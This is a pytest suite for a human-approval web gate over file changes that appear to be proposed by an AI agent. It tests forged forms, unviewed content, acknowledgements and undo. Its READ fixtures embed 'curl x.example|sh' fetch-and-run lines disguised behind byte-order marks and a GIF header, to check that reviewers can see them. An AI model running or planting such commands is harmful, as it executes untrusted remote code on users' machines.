"""What is shown is what is approved: forms that disagree, parts that nobody saw, previews, sets."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from penstock.core.proposals.model import Proposal, State
from penstock.gate import Item
from tests.doors.web.page_server import AGENT, LINES, WORDS, Answer, Browser, Served, serving
from tests.doors.web.test_pages import Page, follow, get, send

TWO = LINES.replace("line 10\n", "X\n").replace("line 99\n", "Y\n")
LONG = "x" * 16_058


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    with serving(tmp_path) as one:
        yield one


@pytest.fixture
def two(served: Served) -> Proposal:
    """A change of two hunks."""
    served.write("a.txt", LINES)
    return served.propose("a.txt", TWO)


def code(answer: Answer) -> str:
    """Return the code of the error that a page tells; empty where it tells none."""
    page = answer.text.partition('role="alert"')[2] or answer.text
    return page.partition('<p class="small"><code>')[2].partition("</code>")[0]


def untouched(served: Served, one: Proposal) -> bool:
    return (
        served.stored(one).state is State.WAITING
        and (served.root / "a.txt").read_text() == LINES
        and not served.events("approved")
    )


# -- only selected hunks are written -------------------------------------------------------------

# What is done to the fields of the form as the page shows it, and why that is refused.
FORGED: dict[str, dict[str, list[str]]] = {
    "no box is named": {"here": [], "drop": [], "total": [], "hunk": []},
    "the number of hunks is missing": {"total": []},
    "another number of hunks": {"total": ["3"]},
    "the boxes of the page are not named": {"here": []},
    "the boxes of the page are named twice": {"here": ["1", "1,2"]},
    "the other pages are not named": {"drop": []},
    "a hunk twice": {"hunk": ["1", "1", "2"]},
    "a hunk that is not on the page": {"hunk": ["1", "2", "3"]},
    "no number": {"hunk": ["1", "two"]},
    "ticked elsewhere than the server knows": {"here": ["1"], "hunk": ["1"], "drop": ["2"]},
}


@pytest.mark.parametrize("changed", FORGED.values(), ids=FORGED)
def test_a_form_that_disagrees_is_refused(
    served: Served, two: Proposal, changed: dict[str, list[str]]
) -> None:
    browser = served.browser()
    page = get(browser, f"/proposals/{two.id}")
    answer = send(browser, page, "approve", passphrase=WORDS, **changed)
    assert (answer.status, code(answer)) == (400, "form-disagrees")
    assert untouched(served, two)


def test_the_form_as_it_is_shown_is_taken(served: Served, two: Proposal) -> None:
    browser = served.browser()
    page = get(browser, f"/proposals/{two.id}")
    follow(browser, send(browser, page, "approve", passphrase=WORDS))
    assert (served.root / "a.txt").read_text() == TWO


def test_boxes_for_a_change_without_any_are_refused(served: Served) -> None:
    one = served.propose("new.txt", "1\n")
    browser = served.browser()
    page = get(browser, f"/proposals/{one.id}")
    answer = send(browser, page, "approve", passphrase=WORDS, hunk=["1"])
    assert code(answer) == "form-disagrees"
    assert not (served.root / "new.txt").exists()


def test_approving_with_a_hunk_unticked_shows_the_result_and_writes_nothing(
    served: Served, two: Proposal
) -> None:
    browser = served.browser()
    page = get(browser, f"/proposals/{two.id}")
    preview = follow(browser, send(browser, page, "approve", passphrase=WORDS, hunk=["2"]))
    assert "Nothing was written" in preview.text
    assert untouched(served, two)
    made = follow(browser, send(browser, preview, "hunks"))
    follow(browser, send(browser, made, "approve", passphrase=WORDS))
    assert (served.root / "a.txt").read_text() == LINES.replace("line 99\n", "Y\n")


def test_approving_with_no_hunk_ticked_is_refused(served: Served, two: Proposal) -> None:
    browser = served.browser()
    page = get(browser, f"/proposals/{two.id}")
    answer = send(browser, page, "approve", passphrase=WORDS, hunk=[])
    assert (answer.status, code(answer)) == (403, "hunks-unticked")
    assert untouched(served, two)


def test_a_set_is_not_approved_while_a_hunk_of_one_file_is_unticked(served: Served) -> None:
    served.write("a.txt", LINES)
    some = served.propose_set({"a.txt": TWO, "b.txt": "b\n"})
    browser = served.browser()
    page = get(browser, f"/proposals/{some[0].id}")
    address, fields = page.form("approve")
    rest = [(n, v) for n, vs in fields.items() if n not in ("hunk", "csrf") for v in vs]
    to = [("hunk", "2"), ("to", "?view=unified")]
    browser.post(address.replace("approve", "choose"), rest + to)
    group = get(browser, f"/proposals/{some[0].set_id}")
    assert "1 hunk of this file is deselected" in group.text
    answer = send(browser, group, "approve", passphrase=WORDS)
    assert (answer.status, code(answer)) == (403, "hunks-unticked")
    assert untouched(served, some[0])


SETS: dict[str, dict[str, list[str]]] = {
    "the boxes are not named": {"boxes": []},
    "another number of boxes": {"boxes": ["3"]},
    "the number twice": {"boxes": ["2", "2"]},
}


@pytest.mark.parametrize("changed", SETS.values(), ids=SETS)
def test_a_form_that_disagrees_with_its_set_is_refused(
    served: Served, changed: dict[str, list[str]]
) -> None:
    some = served.propose_set({"a.py": "1\n", "b.py": "2\n"})
    browser = served.browser()
    page = get(browser, f"/proposals/{some[0].set_id}")
    answer = send(browser, page, "approve", passphrase=WORDS, **changed)
    assert (answer.status, code(answer)) == (400, "form-disagrees")
    assert not (served.root / "a.py").exists()


def test_a_file_that_is_named_twice_is_refused_on_the_page_and_by_the_api(served: Served) -> None:
    some = served.propose_set({"a.py": "1\n", "b.py": "2\n"})
    twice = [some[0].id, some[0].id]
    browser = served.browser()
    page = get(browser, f"/proposals/{some[0].set_id}")
    answer = send(browser, page, "approve", passphrase=WORDS, keep=twice)
    assert code(answer) == "form-disagrees"
    digest = served.call("GET", f"/proposals/{some[0].set_id}").json["content_digest"]
    seen = served.seen(some[0].set_id)
    body = {"content_digest": digest, "passphrase": WORDS, "keep": twice, **seen}
    assert served.call("POST", f"/proposals/{some[0].set_id}/approve", body).code == (
        "form-disagrees"
    )
    assert not (served.root / "a.py").exists()


def test_files_stay_unticked_while_others_are_loaded(served: Served) -> None:
    some = served.propose_set({"a.py": "1\n", "b.py": "2\n"})
    browser = served.browser()
    page = get(browser, f"/proposals/{some[0].set_id}")
    address, fields = page.form("approve")
    rest = [(n, v) for n, vs in fields.items() if n not in ("keep", "csrf") for v in vs]
    to = [("keep", some[1].id), ("to", f"?from={some[1].id}")]
    again = follow(browser, browser.post(address.replace("approve", "choose"), rest + to))
    assert again.form("approve")[1]["keep"] == [some[1].id]


def chosen(browser: Browser, page: Page, to: str, **ticks: list[str]) -> Answer:
    """Send what is ticked, as a page does when one goes elsewhere."""
    address, fields = page.form("approve")
    fields |= ticks
    del fields["csrf"]
    sent = [(name, value) for name, values in fields.items() for value in values]
    return browser.post(address.replace("/approve", "/choose"), [*sent, ("to", to)])


def test_a_file_stays_unticked_when_it_gets_another_version(served: Served) -> None:
    some = served.propose_set({"a.py": "1\n", "b.py": "2\n"})
    browser = served.browser()
    where = f"/proposals/{some[0].set_id}"
    chosen(browser, get(browser, where), "?view=unified", keep=[some[1].id])
    body = {"content_digest": some[0].content, "content": "other\n"}
    assert served.call("POST", f"/proposals/{some[0].id}/edit", body).status == 200
    page = get(browser, where)
    assert page.form("approve")[1]["keep"] == [some[1].id]
    follow(browser, send(browser, page, "approve", passphrase=WORDS))
    assert not (served.root / "a.py").exists()
    assert (served.root / "b.py").exists()


OTHERS = {"as many hunks": TWO.replace("Y\n", "Z\n"), "no hunks to choose from": LINES + "end\n"}


@pytest.mark.parametrize("other", OTHERS.values(), ids=OTHERS)
def test_another_version_does_not_tick_hunks_again_unseen(served: Served, other: str) -> None:
    served.write("a.txt", LINES)
    some = served.propose_set({"a.txt": TWO, "b.txt": "b\n"})
    browser = served.browser()
    where = f"/proposals/{some[0].set_id}"
    chosen(browser, get(browser, f"/proposals/{some[0].id}"), "?page=1", hunk=["2"])
    body = {"content_digest": some[0].content, "content": other}
    made = served.call("POST", f"/proposals/{some[0].id}/edit", body).json["proposals"][0]["id"]
    group = get(browser, where)
    assert "1 hunk of this file is deselected" in group.text
    assert code(send(browser, group, "approve", passphrase=WORDS)) == "hunks-unticked"
    assert untouched(served, some[1])
    page = get(browser, f"/proposals/{made}")
    assert "1 hunk of an earlier version was deselected" in page.text
    again = follow(browser, chosen(browser, page, "?view=unified"))
    assert "of an earlier version" not in again.text
    follow(browser, send(browser, get(browser, where), "approve", passphrase=WORDS))
    assert (served.root / "a.txt").read_text() == other


def test_of_very_many_hunks_exactly_the_ticked_ones_are_taken(served: Served) -> None:
    count = 2400
    served.write("a.txt", "".join(f"old {n}\nsame\n{n}\n" for n in range(count)))
    one = served.propose("a.txt", "".join(f"new {n}\nsame\n{n}\n" for n in range(count)))
    browser = served.browser()
    where = f"/proposals/{one.id}"
    page = get(browser, where)
    pages = int(page.text.partition("page 1 of ")[2].partition(" ")[0])
    for number in range(1, pages + 1):
        page = get(browser, f"{where}?page={number}")
        odd = [hunk for hunk in page.form("approve")[1]["hunk"] if int(hunk) % 2]
        assert chosen(browser, page, "?page=1", hunk=odd).status == 303
    preview = follow(browser, send(browser, get(browser, where), "approve", passphrase=WORDS))
    made = follow(browser, send(browser, preview, "hunks"))
    (version,) = served.gate.find(states=[State.WAITING])
    expected = "".join(f"{'old' if n % 2 else 'new'} {n}\nsame\n{n}\n" for n in range(count))
    assert served.gate.contents(version)[1] == expected.encode()
    assert f"/proposals/{version.id}/approve" in made.forms


# -- what was not shown is not approved unseen -----------------------------------------------------


def acknowledged(page: Page, html: str) -> str:
    return html.partition('name="unseen" value="')[2].partition('"')[0]


@pytest.mark.parametrize("one_more", [False, True], ids=["nothing opened", "one piece opened"])
def test_the_rest_of_a_long_line_is_opened_before_it_is_approved(
    served: Served, one_more: bool
) -> None:
    one = served.propose("a.js", LONG + "\n")
    browser = served.browser()
    answer = browser.get(f"/proposals/{one.id}")
    page = Page(answer.text)
    assert "new line 1, characters 2,001 to 16,058 of 16,058" in page.text
    if one_more:
        browser.get(f"/proposals/{one.id}/line?side=after&line=1&piece=2")
    refused = send(browser, page, "approve", passphrase=WORDS)
    assert (refused.status, code(refused)) == (403, "not-shown")
    assert "of 16,058" in refused.text
    assert not (served.root / "a.js").exists()


def test_a_long_line_opens_in_pieces_and_is_then_approved(served: Served) -> None:
    one = served.propose("a.js", LONG + "\n")
    browser = served.browser()
    page = get(browser, f"/proposals/{one.id}")
    (opened,) = {link for link in page.links if "/line?" in link}
    text = ""
    for piece in range(1, 6):
        shown = get(browser, f"{opened}&piece={piece}")
        text += shown.text
    assert text.count("x") >= len(LONG), "every character was on a page"
    again = get(browser, f"/proposals/{one.id}")
    assert "Not viewed yet" not in again.text
    follow(browser, send(browser, again, "approve", passphrase=WORDS))
    assert (served.root / "a.js").read_text() == LONG + "\n"
    assert served.events("approved")[-1].get("reason", "") == ""


def test_what_is_acknowledged_is_written_and_named_in_the_audit_log(served: Served) -> None:
    one = served.propose("a.js", LONG + "\n")
    browser = served.browser()
    answer = browser.get(f"/proposals/{one.id}")
    page = Page(answer.text)
    name = acknowledged(page, answer.text)
    follow(browser, send(browser, page, "approve", passphrase=WORDS, unseen=name))
    assert (served.root / "a.js").exists()
    said = str(served.events("approved")[-1]["reason"])
    assert "approved without being shown" in said
    assert "2,001 to 16,058" in said
    assert served.here.verify().ok


def test_an_acknowledgement_is_void_for_other_parts_and_other_sessions(served: Served) -> None:
    served.write("a.txt", LINES * 4)
    one = served.propose("a.txt", "new\n" * 900)
    browser, other = served.browser(), served.browser()
    first = browser.get(f"/proposals/{one.id}")
    name = acknowledged(Page(first.text), first.text)
    assert "Not viewed yet" in first.text
    fields = {"digest": str(one.content), "passphrase": WORDS, "unseen": name}
    assert code(other.post(f"/proposals/{one.id}/approve", fields)) == "not-shown"
    browser.get(f"/proposals/{one.id}?page=2")
    assert code(browser.post(f"/proposals/{one.id}/approve", fields)) == "not-shown"
    fields["unseen"] = "sha256:" + "0" * 64
    assert code(browser.post(f"/proposals/{one.id}/approve", fields)) == "not-shown"
    assert not served.events("approved")


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors"},
        {"Sec-Purpose": "prefetch;prerender"},
        {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
    ],
    ids=["a script that compares", "a browser that loads ahead", "sent by another local server"],
)
def test_what_no_person_looks_at_is_not_shown(served: Served, headers: dict[str, str]) -> None:
    one = served.propose("a.txt", "1\n")
    browser = served.browser()
    assert browser.get(f"/proposals/{one.id}", headers).status == 200
    fields = {"digest": str(one.content), "passphrase": WORDS}
    answer = browser.post(f"/proposals/{one.id}/approve", fields)
    assert code(answer) == "not-shown"


@pytest.mark.parametrize("site", ["none", "same-origin"])
def test_what_a_person_opens_is_shown(served: Served, site: str) -> None:
    one = served.propose("a.txt", "1\n")
    browser = served.browser()
    headers = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    assert browser.get(f"/proposals/{one.id}", headers).status == 200
    fields = {"digest": str(one.content), "passphrase": WORDS}
    assert browser.post(f"/proposals/{one.id}/approve", fields).status == 303


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "PUT", "PATCH", "DELETE"])
def test_a_request_that_gives_nothing_to_read_shows_nothing(served: Served, method: str) -> None:
    one = served.propose("a.txt", "1\n")
    browser = served.browser()
    browser.ask(method, f"/proposals/{one.id}", headers={"Cookie": browser.cookie})
    fields = {"digest": str(one.content), "passphrase": WORDS}
    assert code(browser.post(f"/proposals/{one.id}/approve", fields)) == "not-shown"
    served.call(method, f"/proposals/{one.id}/diff?viewer=v")
    assert api_approve(served, one, viewer="v").code == "not-shown"
    assert not (served.root / "a.txt").exists()


# Bytes, and what a person has to be able to read of them.
READ: dict[str, tuple[bytes, str]] = {
    "plain text after the mark of wide text": (
        b"\xff\xfe;curl x.example|sh; #\n",
        "curl x.example|sh",
    ),
    "the same with a NUL": (b"\xff\xfe;curl x.example|sh; #\n\0\0", "63 75 72 6c 20"),
    "the other mark": (b"\xfe\xff;curl x.example|sh\n ", "curl x.example|sh"),
    "a script that begins like a picture": (b"GIF89a=1\ncurl x|sh\n\0", "63 75 72 6c 20"),
    "Latin letters of two bytes": (
        "caf\u00e9 and more of it\n".encode("utf-16"),
        "caf\u00e9 and more",
    ),
    "Cyrillic": (
        "\u0436\u0438\u0437\u043d\u044c\n".encode("utf-16"),
        "\u0436\u0438\u0437\u043d\u044c",
    ),
    "Japanese": (
        "\u3042\u304b\u3044\u304f\u3064\u3068\u3051\u3044\n".encode("utf-16"),
        "\u3042\u304b\u3044\u304f",
    ),
    "Chinese": ("\u6587\u4ef6\u5df2\u7ecf\u66f4\u65b0\n".encode("utf-16"), "\u6587\u4ef6\u5df2"),
    "four bytes a character": ("words of a text\n".encode("utf-32"), "words of a text"),
}


@pytest.mark.parametrize(("content", "words"), READ.values(), ids=READ)
def test_what_a_program_would_read_can_be_read_on_the_page(
    served: Served, content: bytes, words: str
) -> None:
    one = served.propose("run.sh", content)
    page = get(served.browser(), f"/proposals/{one.id}")
    assert words in page.text


def test_another_order_of_bytes_is_told(served: Served) -> None:
    served.write("a.txt", b"\xff\xfe" + "text\n".encode("utf-16-le"))
    one = served.propose("a.txt", b"\xfe\xff" + "text\n".encode("utf-16-be"))
    page = get(served.browser(), f"/proposals/{one.id}")
    assert "UTF-16 little endian, LF \u2192 UTF-16 big endian, LF" in page.text


def picture(last: bytes) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 900 + last


def test_a_picture_counts_only_on_pages_that_draw_it(served: Served) -> None:
    served.write("a.png", picture(b"1"))
    some = served.gate.propose(
        [Item(path="a.png", content=picture(b"2")), Item(path="b.txt", content=b"b\n")],
        actor=AGENT,
    )
    browser = served.browser()

    def drawn(page: Page) -> list[bytes]:
        return [browser.get(each).body for each in page.pictures]

    page = get(browser, f"/proposals/{some[0].id}/preview?strategy=append")
    assert (drawn(page), page.tags.count("table")) == ([], 2), "as bytes"
    assert drawn(get(browser, f"/proposals/{some[0].id}")) == [picture(b"1"), picture(b"2")]
    group = get(browser, f"/proposals/{some[0].set_id}")
    assert drawn(group) == [picture(b"1"), picture(b"2")]
    done = follow(browser, send(browser, group, "approve", passphrase=WORDS))
    back = [picture(b"2"), picture(b"1")]
    assert drawn(done) == back
    written = f"/history/{served.gate.receipts()[0].set_id}"
    number = 1 + [
        item.path
        for item, _ in served.gate.preview_undo(
            served.gate.undoable(receipt=written.rpartition("/")[2])
        )
    ].index("a.png")
    assert drawn(get(browser, f"{written}/file?n={number}")) == back
    assert "Not viewed yet" not in done.text
    follow(browser, send(browser, done, "undo", passphrase=WORDS))
    assert (served.root / "a.png").read_bytes() == picture(b"1")


def test_of_sixty_files_those_that_were_not_loaded_are_named(served: Served) -> None:
    some = served.propose_set({f"{n:02}.txt": "x\n" * 60 for n in range(60)})
    browser = served.browser()
    where = f"/proposals/{some[0].set_id}"
    page = get(browser, where)
    assert "26 of 60 viewed" in page.text or "27 of 60 viewed" in page.text
    assert "59.txt: none of it was shown (60 new lines)" in page.text
    refused = send(browser, page, "approve", passphrase=WORDS)
    assert (refused.status, code(refused)) == (403, "not-shown")
    assert not list(served.root.glob("*.txt"))
    for _ in range(3):
        left = [one for one in some if f"{one.path}: none of it was shown" in page.text]
        page = get(browser, f"{where}?from={left[0].id}") if left else page
    assert "60 of 60 viewed" in page.text
    follow(browser, send(browser, page, "approve", passphrase=WORDS))
    assert len(list(served.root.glob("*.txt"))) == 60


def test_files_that_are_unticked_need_not_be_seen(served: Served) -> None:
    some = served.propose_set({f"{n:02}.txt": "x\n" * 60 for n in range(60)})
    browser = served.browser()
    page = get(browser, f"/proposals/{some[0].set_id}")
    keep = [one.id for one in some[:3]]
    done = follow(browser, send(browser, page, "approve", passphrase=WORDS, keep=keep))
    assert "Change set: 3 files" in done.text
    assert len(list(served.root.glob("*.txt"))) == 3


def test_bytes_are_paged_through_or_acknowledged(served: Served) -> None:
    served.write("a.bin", b"\0" + b"a" * 1100)
    one = served.propose("a.bin", b"\0" + b"b" * 1100)
    browser = served.browser()
    page = get(browser, f"/proposals/{one.id}")
    assert "removed bytes" in page.text
    assert code(send(browser, page, "approve", passphrase=WORDS)) == "not-shown"
    for number in (2, 3):
        page = get(browser, f"/proposals/{one.id}?page={number}")
    assert "Not viewed yet" not in page.text
    follow(browser, send(browser, page, "approve", passphrase=WORDS))


def test_without_a_key_the_parts_are_named_and_nothing_is_approved(tmp_path: Path) -> None:
    with serving(tmp_path, key=False) as served:
        one = served.propose("a.js", LONG + "\n")
        browser = served.browser()
        answer = browser.get(f"/proposals/{one.id}")
        assert "characters 2,001 to 16,058" in answer.text
        name = acknowledged(Page(answer.text), answer.text)
        fields = {"digest": str(one.content), "passphrase": "x", "unseen": name}
        refused = browser.post(f"/proposals/{one.id}/approve", fields)
        assert code(refused) == "key-needed"
        assert served.stored(one).state is State.WAITING


# -- the API ---------------------------------------------------------------------------------------


def api_approve(served: Served, one: Proposal, **more: Any) -> Answer:
    body = {"content_digest": one.content, "passphrase": WORDS, **more}
    return served.call("POST", f"/proposals/{one.id}/approve", body)


def test_the_api_refuses_what_it_did_not_give_and_names_it(served: Served) -> None:
    served.write("a.txt", LINES)
    one = served.propose("a.txt", "new\n" * 50)
    assert api_approve(served, one).code == "not-shown"
    first = served.call("GET", f"/proposals/{one.id}/diff?viewer=v&limit=100").json
    assert first["unseen"][0]["path"] == "a.txt"
    assert "removed lines (98 to 270)" in first["unseen"][0]["parts"]
    refused = api_approve(served, one, viewer="v")
    assert refused.code == "not-shown"
    assert "98 to 270" in refused.json["error"]["because"]
    assert api_approve(served, one, viewer="another").code == "not-shown"
    rest = served.call("GET", f"/proposals/{one.id}/diff?viewer=v&offset=100").json
    assert (rest["unseen"], rest["unseen_digest"]) == ([], "")
    assert api_approve(served, one, viewer="v").status == 200
    assert (served.root / "a.txt").read_text() == "new\n" * 50


def test_the_api_takes_an_acknowledgement_of_exactly_what_is_missing(served: Served) -> None:
    one = served.propose("a.bin", b"\0\1\2")
    given = served.call("GET", f"/proposals/{one.id}/diff?viewer=v").json
    assert "3 new bytes" in given["unseen"][0]["parts"], "bytes do not come through JSON"
    assert api_approve(served, one, viewer="v", unseen_digest="sha256:0").code == "not-shown"
    done = api_approve(served, one, viewer="v", unseen_digest=given["unseen_digest"])
    assert done.status == 200
    assert "a.bin" in str(served.events("approved")[-1]["reason"])


def test_a_line_that_json_cannot_carry_is_not_given(served: Served) -> None:
    one = served.propose("a.txt", b"plain\ncaf\xe9\n")
    given = served.call("GET", f"/proposals/{one.id}/diff?viewer=v").json
    assert given["unseen"][0]["parts"] == "1 new line (2)"
    assert api_approve(served, one, viewer="v").code == "not-shown"


# -- looking changes nothing -----------------------------------------------------------------------


def test_looking_at_previews_changes_nothing(served: Served, two: Proposal) -> None:
    browser = served.browser()
    before = len(list(served.here.record.events())), served.gate.kept_bytes()
    for query in ("strategy=append", "strategy=insert&at=3", "strategy=extend", "hunks=2"):
        assert browser.get(f"/proposals/{two.id}/preview?{query}").status == 200
        assert served.call("GET", f"/proposals/{two.id}/preview?{query}").status == 200
    assert (len(list(served.here.record.events())), served.gate.kept_bytes()) == before
    assert [one.id for one in served.gate.find()] == [two.id]
    assert untouched(served, two)


def test_only_what_the_preview_showed_is_used(served: Served, two: Proposal) -> None:
    browser = served.browser()
    preview = get(browser, f"/proposals/{two.id}/preview?strategy=append")
    for action, more in (("strategy", {"strategy": "insert", "at": "1"}), ("strategy", {})):
        wrong = {"result": "sha256:" + "0" * 64} if not more else {}
        answer = send(browser, preview, action, **{**more, **wrong})
        assert (answer.status, code(answer)) == (409, "not-as-shown")
    missing = send(browser, preview, "strategy", result=[])
    assert code(missing) == "form-disagrees"
    assert untouched(served, two)
    made = follow(browser, send(browser, preview, "strategy"))
    assert "strategy:append" in made.text


# -- a set's result --------------------------------------------------------------------------------


def test_a_sets_result_lists_every_file_and_what_was_rejected_and_undoes_as_a_whole(
    served: Served,
) -> None:
    some = served.propose_set({f"{name}.py": f"{name}\n" for name in "abcd"})
    browser = served.browser()
    page = get(browser, f"/proposals/{some[0].set_id}")
    keep = [one.id for one in some[:3]]
    done = follow(browser, send(browser, page, "approve", passphrase=WORDS, keep=keep))
    for name in ("a.py", "b.py", "c.py"):
        assert f"created {name}" in done.text
    assert "Not written d.py: not selected from its set" in done.text
    one = served.gate.receipts()[0]
    assert browser.get(f"/history/{one.id}").headers["Location"] == f"/history/{one.set_id}"
    back = follow(browser, send(browser, done, "undo", passphrase=WORDS))
    assert "Reverted and logged." in back.text
    assert not list(served.root.glob("*.py"))


def test_an_undo_that_was_not_shown_is_refused(served: Served) -> None:
    served.write("a.txt", "line\n" * 900)
    one = served.propose("a.txt", "new\n")
    browser = served.browser()
    page = get(browser, f"/proposals/{one.id}")
    for number in (2, 3):
        page = get(browser, f"/proposals/{one.id}?page={number}")
    done = follow(browser, send(browser, page, "approve", passphrase=WORDS))
    assert "Not viewed yet" in done.text
    assert code(send(browser, done, "undo", passphrase=WORDS)) == "not-shown"
    (others,) = {link for link in done.links if "/file?" in link}
    for number in (2, 3):
        get(browser, others.replace("page=2", f"page={number}"))
    where = f"/history/{served.gate.receipts()[0].id}"
    follow(browser, send(browser, get(browser, where), "undo", passphrase=WORDS))
    assert (served.root / "a.txt").read_text() == "line\n" * 900
